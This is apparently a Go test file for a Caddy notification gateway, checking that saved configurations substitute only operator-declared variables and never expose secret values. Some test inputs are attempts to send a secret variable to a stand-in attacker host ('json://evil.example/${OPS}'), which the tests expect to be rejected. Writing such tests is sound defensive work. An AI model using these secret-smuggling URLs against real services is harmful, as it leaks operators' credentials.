package caddyhttp

import (
	"net/http"
	"strings"
	"testing"

	"github.com/caddy-notify/caddy-notify/gateway/gatewaytest"
)

// TestSavedVariables checks that a saved configuration can use the values that the
// operator names, and nothing else of the environment. With trust client, a client
// cannot send a value anywhere but to the operator's URL.
func TestSavedVariables(t *testing.T) {
	s := gatewaytest.NewStation(t)
	t.Setenv("NOTIFY_TEST_URL", s.NotifyURL("/secretsecret"))
	t.Setenv("NOTIFY_TEST_TOKEN", "secret/secret")
	const variables = "variables OPS={env.NOTIFY_TEST_URL}"
	h, _ := newConfigGateway(t, t.TempDir(), "manage open\n"+variables, "")
	for text, want := range map[string]string{
		"ops=${OPS}\n":                          "",
		"${ops}\n":                              "",
		"${OPS}/more\n":                         "a variable stands for a whole URL here",
		"${OPS}?to=x\n":                         "a variable stands for a whole URL here",
		"json://evil.example/${OPS}\n":          "a variable stands for a whole URL here",
		"json://${OPS}@evil.example/\n":         "a variable stands for a whole URL here",
		"${HOME}\n":                             "the variable ${HOME} is unknown; there are OPS",
		"${NOTIFY_TEST_URL}\n":                  "the variable ${NOTIFY_TEST_URL} is unknown",
		"${OPS}\n${OPS}x=json://evil.example\n": "a variable stands for a whole URL here",
	} {
		r := post(t, h, "/add/k", "text/plain", text)
		if want == "" && r.status != http.StatusOK ||
			want != "" && (r.status != http.StatusBadRequest || !strings.Contains(r.body, want)) ||
			strings.Contains(r.body, "secretsecret") {
			t.Errorf("%q gets %d %s, want %q", text, r.status, r.body, want)
		}
	}
	yaml := "urls:\n  - ${OPS}:\n      tag: ops\n"
	if r := post(t, h, "/add/k", typeForm,
		"format=yaml&config="+
			strings.NewReplacer("\n", "%0A", " ", "+", "$", "%24", "{", "%7B", "}", "%7D", ":", "%3A").Replace(yaml)); r.status != http.StatusOK {
		t.Fatal(r.body)
	}
	// It is kept as it was saved, and used with the value.
	if r := post(t, h, "/get/k", "", ""); !strings.Contains(r.body, "${OPS}") || strings.Contains(r.body, "secretsecret") {
		t.Errorf("/get answers %s", r.body)
	}
	if r := post(t, h, "/notify/k", typeForm, "body=x&tag=ops"); r.status != http.StatusOK || s.Paths() != "secretsecret" {
		t.Errorf("the message gets %d %s", r.status, r.body)
	}
	// URLs of requests have no variables.
	if r := post(t, h, "/notify", typeForm, "body=x&urls=%24%7BOPS%7D"); r.status != http.StatusBadRequest ||
		strings.Contains(r.body, "secretsecret") {
		t.Errorf("a URL of a request gets %d %s", r.status, r.body)
	}

	// Those who may manage are trusted as the author of the Caddyfile.
	h, _ = newConfigGateway(t, t.TempDir(), "manage open\ntrust operator\n"+variables+" TOKEN={env.NOTIFY_TEST_TOKEN}", "")
	if r := post(t, h, "/add/k", "text/plain",
		strings.Replace(s.NotifyURL("/a/${TOKEN}/b"), "%24%7BTOKEN%7D", "${TOKEN}", 1)+"\n"); r.status != http.StatusOK {
		t.Fatal(r.body)
	}
	if r := post(t, h, "/notify/k", typeForm, "body=x"); r.status != http.StatusOK {
		t.Error(r.body)
	}
	if got := s.Paths(); got != "a/secret/secret/b" && got != "a/secret%2Fsecret/b" {
		t.Errorf("the message arrived at %q", got)
	}

	for block, want := range map[string]string{
		"configs {\nvariables TOKEN={env.NOTIFY_TEST_TOKEN}\n}": "the " +
			"variable TOKEN must be a notification URL, unless trust is operator",
		"configs {\nvariables OPS={env.NOTIFY_TEST_UNSET}\n}": "the " +
			"variable OPS: {env.NOTIFY_TEST_UNSET} has no value",
		"configs {\nvariables OPS\n}":                       "a variable is <name>=<value>",
		"configs {\nvariables OPS=json://h OPS=json://i\n}": "the variable OPS occurs twice",
		"configs {\nvariables O-S=json://h\n}":              "the name of a variable must be",
		"key k {\nurl json://h\nvariables A=b\n}":           "the key has no import_apprise",
		"key k {\nimport_apprise " + configuration(t, "f", "json://h/${B}\n") + "\nvariables A=b\n}": "f:1: " +
			"the variable ${B} is unknown; there are A",
	} {
		if _, err := provision(t, block, ""); err == nil || !strings.Contains(err.Error(), want) ||
			strings.Contains(err.Error(), "secret/secret") {
			t.Errorf("%q: error %v, want %s", block, err, want)
		}
	}
}

// TestImportedVariables checks the variables of imported files.
func TestImportedVariables(t *testing.T) {
	s := gatewaytest.NewStation(t)
	t.Setenv("NOTIFY_TEST_PATH", "x/y")
	base := strings.TrimSuffix(s.NotifyURL("/"), "/")
	text := configuration(t, "f.conf", "ops="+base+"/text/${PART}\n")
	yaml := configuration(t, "f.yml", "urls:\n- ${BASE}/yaml:\n    tag: yaml\n    +X-Part: a ${part} b\n")
	h := newGateway(t, "key k {\nimport_apprise "+text+" "+yaml+"\nvariables PART={env.NOTIFY_TEST_PATH} BASE="+
		base+"\n}\nkey plain {\nimport_apprise "+configuration(t, "g", base+"/${PART}\n")+"\n}", "")
	if r := post(t, h, "/notify/k", typeForm, "body=x&tag=yaml"); r.status != http.StatusOK {
		t.Fatal(r.body)
	}
	if got := s.Paths(); got != "yaml" {
		t.Errorf("arrived at %q", got)
	}
	if got := h.api.Resolved.Keys["k"].Targets[1].URL(); !strings.Contains(got, "+X-Part=a%20x%2Fy%20b") {
		t.Errorf("the option of YAML: %s", got)
	}
	if r := post(t, h, "/notify/k", typeForm, "body=x&tag=ops"); r.status != http.StatusOK {
		t.Fatal(r.body)
	}
	if got := s.Paths(); got != "text/x/y" {
		t.Errorf("arrived at %q", got)
	}
	if r := post(t, h, "/notify/plain", typeForm, "body=x"); r.status != http.StatusOK || s.Paths() != "${PART}" {
		t.Errorf("without variables: %s", r.body)
	}
}
